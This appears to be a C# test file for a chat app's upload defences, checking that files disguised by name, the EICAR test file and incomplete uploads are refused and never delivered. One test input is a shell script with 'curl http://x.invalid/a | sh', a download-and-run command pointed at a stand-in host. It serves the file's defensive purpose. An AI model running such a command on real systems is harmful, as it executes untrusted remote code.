using System.Text;
using Microsoft.AspNetCore.SignalR;
using Microsoft.AspNetCore.SignalR.Client;
using static GoChat.Gateway.Tests.Files.FileTestData;

namespace GoChat.Gateway.Tests.Files;

/// <summary>
/// Malware and disguised files are stopped at the door (issue 15): the type comes from the bytes, the scanner clears
/// every file before anyone can have it, and a refused file is never delivered nor kept.
/// </summary>
[Collection(FilesCollection.Name)]
public sealed class FileRefusalTests(FilesFixture fixture)
{
    public static TheoryData<string, byte[], string> Disguised => new()
    {
        { "laporan.pdf", Executable(), ErrorCodes.FileTypeNotAllowed },
        { "gambar.jpg", Executable(), ErrorCodes.FileTypeNotAllowed },
        { "memo.pdf", "#!/bin/sh\ncurl http://x.invalid/a | sh\n"u8.ToArray(), ErrorCodes.FileTypeNotAllowed },
        { "minit.pdf", Encoding.UTF8.GetBytes("Minit mesyuarat: teks biasa, bukan PDF.\n"), ErrorCodes.FileTypeMismatch },
    };

    [Theory]
    [MemberData(nameof(Disguised))]
    public async Task A_file_whose_bytes_are_not_what_its_name_says_is_refused_and_reaches_no_one(string name, byte[] bytes, string code)
    {
        await using var pair = await fixture.PairAsync();
        var upload = await pair.AliceTus.UploadAsync(name, "application/pdf", bytes);

        var info = await pair.AliceTus.WaitForChecksAsync(upload);

        Assert.Equal((UploadStatus.Refused, code), (info.Status, info.RefusalCode));
        await AssertNeverSent(pair, upload, code);
    }

    [Fact]
    public async Task The_eicar_file_is_refused_by_the_scanner_and_reaches_no_one()
    {
        await using var pair = await fixture.PairAsync();
        var upload = await pair.AliceTus.UploadAsync("nota.txt", "text/plain", Eicar.Bytes());

        var info = await pair.AliceTus.WaitForChecksAsync(upload);

        Assert.Equal((UploadStatus.Refused, ErrorCodes.FileInfected), (info.Status, info.RefusalCode));
        Assert.Contains(ClamdServer.EicarSignature, info.Refusal);
        await AssertNeverSent(pair, upload, ErrorCodes.FileInfected);
    }

    [Fact]
    public async Task A_secret_chats_encrypted_file_is_kept_unscanned_but_never_lends_that_to_the_same_bytes_sent_in_the_clear()
    {
        await using var pair = await fixture.PairAsync();
        var bytes = Eicar.Bytes();
        var sealedUpload = await pair.AliceTus.CreateAsync("rahsia.bin", null, bytes.Length, encrypted: true);
        await pair.AliceTus.PatchAsync(sealedUpload, bytes, 0);
        var sealedInfo = await pair.AliceTus.WaitForChecksAsync(TusClient.IdOf(sealedUpload));
        Assert.Equal(UploadStatus.Ready, sealedInfo.Status); // ciphertext: nothing to scan

        // Only a secret chat carries it, and this one is not.
        await AssertNeverSent(pair, TusClient.IdOf(sealedUpload), ErrorCodes.EncryptedFileNotAllowed, bytesRemain: true);

        // The same bytes in the clear are scanned for what they are.
        var plain = await pair.AliceTus.UploadAsync("nota.txt", "text/plain", bytes);
        Assert.Equal(ErrorCodes.FileInfected, (await pair.AliceTus.WaitForChecksAsync(plain)).RefusalCode);
    }

    [Fact]
    public async Task A_file_still_being_received_cannot_be_sent()
    {
        await using var pair = await fixture.PairAsync();
        var file = Pdf(10_000);
        var upload = await pair.AliceTus.CreateAsync("separuh.pdf", null, file.Length);
        await pair.AliceTus.PatchRawAsync(upload, 0, new ByteArrayContent(file, 0, 5000));

        await AssertNeverSent(pair, TusClient.IdOf(upload), ErrorCodes.UploadIncomplete, bytesRemain: true);
    }

    /// <summary>Sending it is refused with the code, no message is stored, and none of its bytes are kept.</summary>
    private async Task AssertNeverSent(Pair pair, Guid upload, string code, bool bytesRemain = false)
    {
        var error = await Assert.ThrowsAsync<HubException>(() => pair.Alice.Connection.InvokeAsync<SendAck>("SendMessage", new
        {
            ConversationId = pair.Chat.ToString(), ClientMessageId = Guid.NewGuid().ToString("N"), Text = "Sila semak",
            Attachments = new[] { new { UploadId = upload.ToString("N") } },
        }));
        HubErrors.AssertCode(code, error);
        Assert.Equal(0L, await fixture.Scalar<long>("SELECT count(*) FROM gochat_messages WHERE conversation_id = @c AND kind = 0", ("c", pair.Chat)));
        if (!bytesRemain)
        {
            Assert.Equal(0L, await fixture.Scalar<long>("SELECT count(*) FROM gochat_file_chunks WHERE file_id = @f",
                ("f", GoChat.Files.Storage.UploadFileIds.Assembled(upload))));
        }
    }

    /// <summary>The start of a Windows program: "MZ", then a PE header where the DOS header points.</summary>
    private static byte[] Executable()
    {
        var bytes = new byte[4096];
        "MZ"u8.CopyTo(bytes);
        BitConverter.GetBytes(128).CopyTo(bytes, 0x3C);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(128));
        return bytes;
    }
}
